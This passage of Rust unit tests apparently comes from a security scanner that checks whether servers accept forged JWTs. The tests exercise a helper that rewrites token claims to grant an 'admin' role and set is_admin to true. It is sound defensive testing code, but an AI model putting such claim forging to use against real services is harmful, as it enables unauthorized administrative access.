            &Operation::whole_target(),
            &context,
            &mut checks_roles,
        );
        let findings = JwtForgeryAccepted.evaluate(&Operation::whole_target(), &results, &context);
        assert!(
            !findings[0].message.contains("reserved for a role"),
            "{}",
            findings[0].message
        );
    }

    #[test]
    fn a_role_claim_is_raised_in_its_own_shape() {
        let claims = object(serde_json::json!({"sub": "1", "roles": ["user"], "is_admin": false}));
        let raised = with_role(&claims, "admin", None).expect("raised");
        assert_eq!(raised["roles"], serde_json::json!(["admin"]));
        assert_eq!(raised["is_admin"], Value::Bool(true));
        // A staff role does not make an administrator.
        let staff = with_role(&claims, "staff", None).expect("raised");
        assert_eq!(staff["is_admin"], Value::Bool(false));
        // Nothing to raise without a role claim.
        assert!(with_role(&object(serde_json::json!({"sub": "1"})), "admin", None).is_none());
    }
}
